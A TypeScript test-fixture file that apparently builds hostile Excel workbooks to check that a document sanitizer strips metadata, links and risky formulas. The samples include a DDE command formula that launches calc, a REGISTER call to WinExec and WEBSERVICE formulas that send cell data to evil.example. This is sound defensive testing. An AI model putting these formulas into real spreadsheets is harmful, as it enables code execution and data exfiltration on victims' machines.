import { CANARY, CANARY_ZH, type HostileFile, SHARE } from './hostile-file.ts'
import { office, xlsx } from './office-file.ts'
import { PIXEL } from './word-file.ts'

const TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

/** A cell whose formula came to something. */
const computed = (formula: string): string => `<c r="A1" t="str"><f>${formula}</f><v>came to</v></c>`

export const sheets: readonly HostileFile[] = [
  {
    what: 'names are defined for cells, one of them a person',
    is: 'cleaned',
    make: () =>
      xlsx({
        inBook: `<definedNames><definedName name="${CANARY_ZH}">Sheet1!$A$1</definedName><definedName name="x" comment="${CANARY}">cmd|'/c calc'!A0</definedName></definedNames>`,
      }),
  },
  {
    what: 'where the book lay, who had it open, who changed it last',
    is: 'cleaned',
    make: () =>
      xlsx({
        inBook: `<fileSharing userName="${CANARY}"/><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"><mc:Choice Requires="x15ac"><x15ac:absPath url="C:\\Users\\${CANARY}\\"/></mc:Choice></mc:AlternateContent><customWorkbookViews><customWorkbookView name="${CANARY} - Personal View"/></customWorkbookViews>`,
      }),
  },
  {
    what: 'a formula asks a server on the web',
    is: 'cleaned',
    keeps: 'came to',
    drops: ['WEBSERVICE', 'evil'],
    make: () => xlsx({ cells: computed('WEBSERVICE("http://evil.example/?"&amp;A2)') }),
  },
  {
    what: 'a formula links to a share',
    is: 'cleaned',
    drops: ['HYPERLINK'],
    make: () => xlsx({ cells: computed(`HYPERLINK("${SHARE}\\a","x")`) }),
  },
  {
    what: 'a formula runs a program (DDE)',
    is: 'cleaned',
    drops: ['calc'],
    make: () => xlsx({ cells: computed("cmd|'/C calc'!A0") }),
  },
  {
    what: 'a formula that runs a program has come to nothing yet',
    is: 'not-understood',
    make: () => xlsx({ cells: `<c r="A1"><f>cmd|'/C calc'!A0</f></c>` }),
  },
  {
    what: 'a formula of a macro function, registered from a library',
    is: 'cleaned',
    drops: ['REGISTER'],
    make: () => xlsx({ cells: computed('REGISTER("kernel32","WinExec","JCJ")') }),
  },
  {
    what: 'another book is read, and its path told',
    is: 'cleaned',
    make: () =>
      xlsx({
        cells: computed('[1]Sheet1!A1'),
        inBook: '<externalReferences><externalReference r:id="r2"/></externalReferences>',
        bookRelated: [['externalLink', 'externalLinks/externalLink1.xml']],
        parts: {
          'xl/externalLinks/externalLink1.xml': {
            type: `${TYPE}.externalLink+xml`,
            content: `<externalLink ${S} ${R}><externalBook r:id="r1"/></externalLink>`,
            related: [['externalLinkPath', `file:///${SHARE}\\${CANARY}.xlsx`, 'outside']],
          },
        },
      }),
  },
  {
    what: 'data is fetched from a database when it opens',
    is: 'cleaned',
    make: () =>
      xlsx({
        bookRelated: [['connections', 'connections.xml']],
        parts: {
          'xl/connections.xml': {
            type: `${TYPE}.connections+xml`,
            content: `<connections ${S}><connection id="1" name="${CANARY}" refreshOnLoad="1"><dbPr connection="Server=${CANARY}"/></connection></connections>`,
          },
        },
      }),
  },
  {
    what: 'remarks, talks about cells, and people',
    is: 'cleaned',
    make: () =>
      xlsx({
        inSheet: '<legacyDrawing r:id="r1"/>',
        related: [
          ['vmlDrawing', '../drawings/vmlDrawing1.vml'],
          ['comments', '../comments1.xml'],
          ['http://schemas.microsoft.com/office/2017/10/relationships/threadedComment', '../threadedComments/t1.xml'],
        ],
        parts: {
          'xl/drawings/vmlDrawing1.vml': {
            type: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
            content: '<xml/>',
          },
          'xl/comments1.xml': {
            type: `${TYPE}.comments+xml`,
            content: `<comments ${S}><authors><author>${CANARY}</author></authors></comments>`,
          },
          'xl/threadedComments/t1.xml': { content: `<t>${CANARY_ZH}</t>` },
        },
      }),
  },
  {
    what: 'a pivot table says who refreshed it, and keeps the rows it was made of',
    is: 'cleaned',
    make: () =>
      xlsx({
        inBook: '<pivotCaches><pivotCache cacheId="1" r:id="r2"/></pivotCaches>',
        bookRelated: [['pivotCacheDefinition', 'pivotCache/p1.xml']],
        parts: {
          'xl/pivotCache/p1.xml': {
            type: `${TYPE}.pivotCacheDefinition+xml`,
            content: `<pivotCacheDefinition ${S} refreshedBy="${CANARY}"/>`,
          },
        },
      }),
  },
  {
    what: 'a sheet of macros of old (XLM)',
    is: 'macros',
    make: () =>
      xlsx({
        bookRelated: [['http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'other/sheet1.xml']],
        parts: { 'xl/other/sheet1.xml': { content: '<a/>' } },
      }),
  },
  {
    what: 'a book with macros by its type',
    is: 'macros',
    make: () =>
      office({
        'xl/workbook.xml': {
          type: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          content: `<workbook ${S}/>`,
        },
      }),
  },
  {
    what: 'links of cells lead to a share, and say so on touch',
    is: 'cleaned',
    make: () =>
      xlsx({
        inSheet: `<hyperlinks><hyperlink ref="A1" r:id="r1" tooltip="${CANARY}" display="${CANARY}"/></hyperlinks>`,
        related: [['hyperlink', `file:///${SHARE}\\${CANARY}`, 'outside']],
      }),
  },
  {
    what: 'rules of look and of entry compute',
    is: 'cleaned',
    drops: ['WEBSERVICE'],
    make: () =>
      xlsx({
        inSheet:
          '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://evil.example")</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("http://evil.example")</formula1></dataValidation></dataValidations>',
      }),
  },
  {
    what: 'a range of cells that can be read in more ways than there are atoms',
    is: 'cleaned',
    make: () => xlsx({ inSheet: `<mergeCells><mergeCell ref="${'A1'.repeat(2_000)}!"/></mergeCells>` }),
  },
  {
    what: 'scenarios, protection and printers with a name',
    is: 'cleaned',
    make: () =>
      xlsx({
        inSheet: `<scenarios><scenario name="a" user="${CANARY}"/></scenarios><protectedRanges><protectedRange name="${CANARY}" sqref="A1"/></protectedRanges><pageSetup r:id="r1"/>`,
        related: [['printerSettings', '../printerSettings/p1.bin']],
        parts: { 'xl/printerSettings/p1.bin': { content: Buffer.from(CANARY, 'utf16le') } },
      }),
  },
  {
    what: 'an object of another program lies on the sheet',
    is: 'more-inside',
    make: () =>
      xlsx({
        inSheet: '<oleObjects><oleObject progId="Package" shapeId="1" r:id="r1"/></oleObjects>',
        related: [['oleObject', '../embeddings/o1.bin']],
        parts: { 'xl/embeddings/o1.bin': { content: 'x' } },
      }),
  },
  {
    what: 'a picture on the sheet is described, and runs a macro when clicked',
    is: 'cleaned',
    drops: ['evilMacro'],
    make: () =>
      xlsx({
        inSheet: '<drawing r:id="r1"/>',
        related: [['drawing', '../drawings/drawing1.xml']],
        parts: {
          'xl/drawings/drawing1.xml': {
            type: 'application/vnd.openxmlformats-officedocument.drawing+xml',
            content: `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ${R}><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:pic macro="evilMacro"><xdr:nvPicPr><xdr:cNvPr id="1" name="${CANARY}" descr="${CANARY_ZH}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed="r1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>`,
            related: [['image', '../media/image1.png']],
          },
          'xl/media/image1.png': { content: PIXEL },
        },
      }),
  },
]
